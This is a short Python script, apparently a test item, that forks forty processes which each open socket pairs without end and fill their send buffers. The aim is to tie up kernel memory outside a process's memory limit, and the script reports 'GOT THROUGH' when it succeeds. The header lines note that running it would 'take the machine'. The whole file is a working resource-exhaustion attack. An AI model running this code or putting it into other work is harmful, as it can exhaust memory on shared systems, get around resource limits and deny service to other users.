"""Kernel memory that is nobody's: socket buffers of forty processes, filled.

base: solved
honest: all
stock: not run: it would take the machine
"""
# %% top
import os, socket, time
def _free():
    return next(int(l.split()[1]) >> 10 for l in open("/proc/meminfo") if l.startswith("MemAvailable"))
def _fill(size):
    kept = []
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            if size:
                pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, size)
            try:
                while True:
                    pair[0].send(bytes(60000))
            except BlockingIOError:
                pass
    except OSError:
        time.sleep(4)
_before = _free()
for _ in range(40):
    if os.fork() == 0:
        _fill(0)
        os._exit(0)
time.sleep(3)
if _before - _free() > 4000:
    print("GOT THROUGH: more memory than the limit, in sockets")
